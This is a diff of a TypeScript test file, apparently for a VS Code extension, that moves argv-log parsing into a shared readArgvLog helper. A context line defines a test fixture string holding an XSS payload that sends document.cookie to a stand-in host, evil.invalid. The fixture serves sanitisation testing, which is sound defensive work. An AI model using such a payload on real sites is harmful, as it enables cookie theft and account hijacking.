@@ -39,6 +39,7 @@ import { FakeLoki } from '../fakes/lokiFake';
 import { MarkdownString } from './support/vscodeShim';
 import { sample, SampleServer } from './support/sampleServer';
 import { fakePanel, fakeUri } from './support/fakePanel';
+import { readArgvLog } from '../support/argvLog';
 
 const HTML = '<img src=x onerror="alert(1)"><script>fetch("https://evil.invalid/"+document.cookie)</script>';
 const KB100 = 'x'.repeat(100 * 1024);
@@ -543,14 +544,7 @@ function fakeComposeCli(tmp: string): { runner: ComposeCliRunner; argvLog: () =>
       baseEnv: { ...process.env, PATH: `${bin}${path.delimiter}${process.env.PATH ?? ''}`, REALM_ARGV_LOG: log },
     },
   );
-  const argvLog = () =>
-    fs.existsSync(log)
-      ? fs
-          .readFileSync(log, 'utf8')
-          .trim()
-          .split('\n')
-          .map((l) => JSON.parse(l) as string[])
-      : [];
+  const argvLog = () => readArgvLog(log);
   return { runner, argvLog };
 }
 
